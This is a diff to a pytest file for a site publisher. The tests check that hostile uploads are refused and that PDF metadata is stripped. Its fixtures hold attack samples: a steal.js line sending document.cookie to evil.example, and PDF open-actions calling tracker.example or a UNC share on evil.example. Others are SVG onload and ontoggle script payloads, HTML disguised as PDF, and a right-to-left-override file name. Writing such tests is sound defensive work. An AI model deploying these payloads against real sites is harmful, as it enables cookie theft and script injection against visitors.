@@ -24,8 +24,8 @@ from pypdf import PdfReader, PdfWriter
 from pypdf.actions import JavaScript
 from pypdf.generic import DictionaryObject, NameObject, TextStringObject
 
-from conftest import (AUTHOR, NOW, authored, build, copy_project, post_text, reader_pages, revised, with_photo, write_pdf,
-                      write_post)
+from conftest import (AUTHOR, NOW, REVIEWER, action, authored, build, copy_project, on_open, post_text, reader_pages, revised,
+                      reviewed, with_photo, write_pdf, write_post)
 from hub.commands.cli import main
 
 GPS = 0x8825
@@ -264,6 +264,12 @@ def docs_pdf_script(root: Path) -> Where:
     return "docs/methodology/guide.pdf", None, "holds a script"
 
 
+def docs_pdf_html(root: Path) -> Where:
+    """A page of HTML named .pdf, '%PDF-' in a comment near its start: browsers sniff it as HTML, and run its script."""
+    (root / "docs" / "methodology" / "guide.pdf").write_bytes(b"<html><script>alert(1)</script><!-- %PDF-1.7 -->")
+    return "docs/methodology/guide.pdf", None, "is no PDF document"
+
+
 def svg_logo(root: Path) -> Where:
     path = root / "partners" / "unicef.yml"
     (root / "partners" / "unicef.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', encoding="utf-8")
@@ -300,7 +306,10 @@ REFUSED: list[Callable[[Path], Where]] = [
     pdf_case("pdf-attachment", lambda writer: writer.add_attachment("invoice.exe", b"MZ"), "carries another file"),
     pdf_case("pdf-launch", launching, "start a program"),
     pdf_case("pdf-password", lambda writer: writer.encrypt("secret"), "protected by a password"),
+    pdf_case("pdf-beacon", on_open(action("/URI", URI="https://tracker.example/pixel?doc=report")), "act on its own"),
+    pdf_case("pdf-remote-file", on_open(action("/GoToR", F="\\\\evil.example\\share\\x.pdf")), "act on its own"),
     docs_pdf_script,
+    docs_pdf_html,
     body_case("bracket-flood", "Вставлено з таблиці: " + "[" * 20_000, "[[[[", "more brackets"),
     body_case("turned-link-text", "Завантажте [звіт \u202efdp.exe\u202c](https://example.org/report)", "\u202e", "U+202E"),
     body_case("details-ontoggle", "<details open ontoggle=alert(1)><summary>Більше</summary>Текст</details>", "ontoggle", "'ontoggle'"),
@@ -480,7 +489,7 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> Built:
     (root / "docs" / "assets" / "steal.js").write_text("fetch('https://evil.example/?' + document.cookie)", encoding="utf-8")
     (root / "docs" / "methodology" / "scheme.svg").write_text('<svg onload="alert(1)"/>', encoding="utf-8")
     (root / "docs" / "contacts.txt").write_text("Телефон мами: 067 123 45 67\n", encoding="utf-8")
-    write_pdf(root / "docs" / "methodology" / "guide.pdf", change=authored)
+    write_pdf(root / "docs" / "methodology" / "guide.pdf", change=lambda writer: (authored(writer), reviewed(writer)))
     about = root / "docs" / "about.uk.md"
     about.write_text(about.read_text(encoding="utf-8") + "\n![Команда хабу](assets/team.jpg)\n", encoding="utf-8")
     logo = Image.new("RGB", (900, 300), (0, 90, 160))
@@ -599,13 +608,14 @@ def test_stray_and_unused_files_are_not_published_and_check_says_so(hostile: Bui
 
 
 def test_a_linked_pdf_is_published_without_its_authors_name_or_earlier_version(hostile: Built) -> None:
-    """A post's report and a methodology's PDF, as Word exports them and a viewer saves an edit: readers get the
-    pages (and the software's name), not the author's name, the file's name as a title, the note taken off, or where
-    the report's photo was taken."""
+    """A post's report and a methodology's PDF, as Word exports them, a reviewer comments and a viewer saves an edit:
+    readers get the pages, not the author's name, the file's name as a title, the reviewer's comment, the note taken
+    off, or where the report's photo was taken."""
     assert b"Pixel 8" in (hostile.root / "news/2026/family-visit/report.pdf").read_bytes()
     for published in ("news/2026/family-visit/report.pdf", "methodology/guide.pdf"):
         data = (hostile.site / published).read_bytes()
         assert AUTHOR.encode() not in data and b"Ivanchenko" not in data and b"Pixel 8" not in data, published
+        assert REVIEWER.encode() not in data and b"Sadova" not in data, published
         reader = PdfReader(io.BytesIO(data))
         assert reader.metadata is None and len(reader.pages) == 1, published
     assert b"Maria Ivanchenko" in (hostile.root / "news/2026/family-visit/report.pdf").read_bytes(), "the original is kept"
